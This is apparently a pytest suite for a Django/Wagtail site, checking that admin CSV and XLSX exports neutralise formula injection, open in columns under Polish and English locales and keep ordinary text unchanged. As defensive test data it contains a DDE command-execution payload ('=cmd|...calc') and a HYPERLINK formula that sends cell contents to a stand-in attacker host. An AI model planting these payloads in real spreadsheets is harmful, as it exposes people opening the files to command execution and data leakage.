"""Exports calculate nothing, open in columns, and keep what was written."""

import csv
import io
import re
from decimal import Decimal

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import translation
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from wagtail.contrib.redirects.models import Redirect
from wagtail.contrib.search_promotions.models import Query

from ground.spreadsheets import csv_lines, harmless, xlsx
from tests.factories import make_news, make_person

FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx", " =1", "\u00a0=1"),
    *(
        "＝1+1",
        "＋1",
        "－1",
        "＠A1",
        "﹦1",
        "\ufeff=1",
        "\u200b=1",
        "\x00=1",
        "\u3000=1",
        "=cmd|' /C calc'!A0",
    ),
]


def starts(text: str) -> bool:
    """As in the README of those who look for it: any sign of a formula first, unseen ones aside."""
    seen = re.sub(r"^[\s\x00-\x20\u00a0\u200b\u3000\ufeff]+", "", text)
    return bool(seen) and seen[0] in "=+-@＝＋－＠﹦"


def cells_of_csv(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.mark.parametrize("formula", FORMULAS)
def test_text_is_no_formula_in_any_excel(formula) -> None:
    row = [
        formula,
        f"x;{formula}",
        f"x,{formula}",
        f"x\n{formula}",
        f'x;"{formula}"',
        5,
        -1.5,
        None,
    ]
    with translation.override("pl"):
        content = b"".join(csv_lines([["Nagłówek", *"abcdefg"], row]))
    for delimiter in ";,\t":  # whatever this Excel takes for a separator
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            lines = io.StringIO(content.decode("utf-8-sig").replace("\x00", ""), newline="")
            for cells in csv.reader(lines, delimiter=delimiter, quoting=quoting):
                assert not [cell for cell in cells if starts(cell) and cell != "-1,5"]
    sheet = load_workbook(io.BytesIO(xlsx([row]))).active
    assert [cell.data_type for cell in sheet[1]][:2] == ["s", "s"]
    assert sheet["F1"].value == 5 and sheet["G1"].value == -1.5
    assert sheet["A1"].number_format == "@" or not starts(formula)


@given(st.text(max_size=20))
def test_nothing_that_people_write_breaks_an_export(text) -> None:
    assert not starts(str(harmless(text)))
    load_workbook(io.BytesIO(xlsx([[text, text]])))
    b"".join(csv_lines([[text]])).decode()


@pytest.mark.parametrize(
    ("language", "line"), [("pl", "Żółć;2;0,5;1,25;a.b"), ("en", "Żółć,2,0.5,1.25,a.b")]
)
def test_csv_opens_in_columns_in_the_readers_excel(language, line) -> None:
    with translation.override(language):
        content = b"".join(csv_lines([["Żółć", 2, 0.5, Decimal("1.25"), "a.b"]]))
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig") == line + "\r\n"


def test_ordinary_text_stays_as_it_is() -> None:
    for text in (
        "Kowalska, Ewa",
        "a;b",
        "3 - 2",
        "ewa@example.com",
        "C++",
        "10-12",
        "x = 1",
        "'cytat'",
    ):
        assert harmless(text) == text
    assert [harmless(value) for value in (-5, 1.5, None, True)] == [-5, 1.5, None, True]


def lists(patterns: list, prefix: str = "") -> list[str]:
    """Addresses of the administration that name nothing: its lists and reports."""
    found = []
    for pattern in patterns:
        route = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            found += lists(pattern.url_patterns, route)
        elif isinstance(pattern, URLPattern) and not re.search(r"[<(^]", route):
            found.append("/" + route)
    return [route for route in found if route.startswith("/admin/")]


@pytest.mark.django_db
def test_no_list_or_report_of_the_administration_carries_a_formula(
    client_of, administrator, home
) -> None:
    """Each with a title, a name, an address or a query that begins like one; CSV and XLSX."""
    evil = '=HYPERLINK("http://evil.example/"&A1,"x")'
    page = make_news(evil)
    page.save_revision(user=administrator).publish()
    person = make_person("=1+2", "＝cmd", groups=["Editors"])
    Redirect.objects.create(old_path="/=1", redirect_link="=1+1")
    Query.get("=1+1").add_hit()
    client = client_of(administrator)
    page.revisions.update(user=person)
    exported, planted = set(), 0
    for address in lists(get_resolver().url_patterns):
        if address in {"/admin/logout/", "/admin/failwhale/"}:
            continue
        for form in ("csv", "xlsx"):
            response = client.get(address, {"export": form})
            if "attachment" not in response.get("Content-Disposition", ""):
                continue
            content = b"".join(response)
            exported.add((address, form))
            if form == "csv":
                cells = [cell for row in cells_of_csv(content) for cell in row]
                assert not [cell for cell in cells if starts(cell)], address
            else:
                sheet = load_workbook(io.BytesIO(content)).active
                values = [cell for row in sheet.iter_rows() for cell in row]
                assert not [cell for cell in values if cell.data_type == "f"], address
                cells = [str(cell.value) for cell in values]
            planted += any("evil" in cell or "1+" in cell or "cmd" in cell for cell in cells)
    assert len(exported) >= 24, sorted(exported)
    assert planted >= 8
    print(f"{len(exported)} exports, {planted} with a planted formula")
